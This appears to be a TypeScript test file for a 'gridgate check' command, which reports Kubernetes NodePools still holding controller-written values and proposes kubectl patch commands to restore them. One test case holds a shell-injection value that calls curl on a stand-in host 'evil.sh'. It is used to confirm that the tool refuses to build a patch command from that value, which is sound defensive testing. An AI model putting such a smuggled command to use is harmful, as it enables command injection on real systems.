import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ClusterFacts } from '../../../src/questions/check/facts.ts';
import { toHeldPool } from '../../../src/questions/check/read-held-pools.ts';
import { NOW } from '../../builders.ts';
import { deploymentOf, factsOf, oddities, saysOf } from './facts-of.ts';

const BEFORE = 'gridgate.dev/carbon-before';
const HELD = { version: 1, field: 'limits.cpu', value: 100, owners: [], wrote: '0' };
const NOBODY_LEADS = { lease: { value: { holder: 'one', renewedAt: NOW - 600_000, durationMs: 15_000 } } };

function held(hold: unknown = HELD, name = 'batch') {
  const text = typeof hold === 'string' ? hold : JSON.stringify(hold);
  const pool = toHeldPool({ metadata: { name, annotations: { [BEFORE]: text } } });
  assert.ok(pool);
  return pool;
}

const run = (args: readonly string[], variables = new Map()) => ({
  deployments: { value: [deploymentOf('webhook'), deploymentOf('controllers', { args, variables })] },
});
const ON = run(['--node-pools=on']);
const PATCH = (spec: string) =>
  `kubectl patch nodepool batch --type=merge -p '{"spec":${spec},"metadata":{"annotations":{"gridgate.dev/carbon-before":null,"gridgate.dev/carbon-status":null}}}'`;

const of = (parts: Partial<ClusterFacts>) => oddities(parts).filter((line) => line.includes(' NodePools: '));

describe('gridgate check says of NodePools that gridgate changed', () => {
  it('nothing where there are none', () => {
    assert.deepEqual(saysOf('NodePools', ON), []);
    assert.equal(
      toHeldPool({ metadata: { name: 'a', annotations: { 'gridgate.dev/carbon-aware': 'pause' } } }),
      undefined,
    );
  });

  it('that they follow the grid where a leader keeps them', () => {
    const pools = { heldPools: { value: [held()] } };
    for (const running of [ON, run(['--node-pools', 'audit']), run([], new Map([['GRIDGATE_NODE_POOLS', 'set']]))])
      assert.deepEqual(saysOf('NodePools', { ...running, ...pools }), [
        'ok: 1 follow the grid, and are as it has them',
      ]);
  });

  const ROWS: readonly [name: string, parts: Partial<ClusterFacts>, why: string][] = [
    ['the option is not set', run([]), '--node-pools is off'],
    ['the option is off', run(['--node-pools=off']), '--node-pools is off'],
    [
      'only the webhook has the option',
      { deployments: { value: [deploymentOf('webhook', { args: ['--node-pools=on'] })] } },
      '--node-pools is off',
    ],
    ['nobody leads', { ...ON, ...NOBODY_LEADS }, 'nobody leads'],
    [
      'there is no gridgate any more',
      { deployments: { value: [] }, lease: { value: undefined } },
      '--node-pools is off',
    ],
  ];
  for (const [name, parts, why] of ROWS)
    it(`each with the command that puts it back where ${name}`, () => {
      assert.deepEqual(of({ ...parts, heldPools: { value: [held()] } }), [
        `failed NodePools: batch has spec.limits.cpu as gridgate wrote it, and nobody puts back what its owner had (100): ${why} -> ${PATCH('{"limits":{"cpu":100}}')}`,
      ]);
    });

  const COMMANDS: readonly [name: string, hold: unknown, command: string][] = [
    ['a text', { ...HELD, value: '1500m' }, PATCH('{"limits":{"cpu":"1500m"}}')],
    ['no limit', { ...HELD, value: null }, PATCH('{"limits":{"cpu":null}}')],
    ['a weight', { ...HELD, field: 'weight', value: 7 }, PATCH('{"weight":7}')],
    [
      'zones',
      { ...HELD, field: 'requirements', key: 'topology.kubernetes.io/zone', value: ['a'] },
      'kubectl edit nodepool batch',
    ],
    ['what a shell would act upon', { ...HELD, value: "1'; curl evil.sh; '" }, 'kubectl edit nodepool batch'],
    ['another field', { ...HELD, field: 'replicas', value: 1 }, 'kubectl edit nodepool batch'],
    ['what nobody can read', '{', 'kubectl edit nodepool batch'],
  ];
  for (const [name, hold, command] of COMMANDS)
    it(`the command for ${name}`, () => {
      const [line = ''] = of({ heldPools: { value: [held(hold)] } });
      assert.equal(line.split(' -> ')[1], command);
    });

  it('of many the first few, and how many more', () => {
    const many = Array.from({ length: 7 }, (_, index) => held(HELD, `p${index}`));
    const lines = of(factsOf({ heldPools: { value: many } }));
    assert.equal(lines.length, 6);
    assert.equal(lines.at(-1), 'failed NodePools: 2 more are as gridgate wrote them');
  });
});
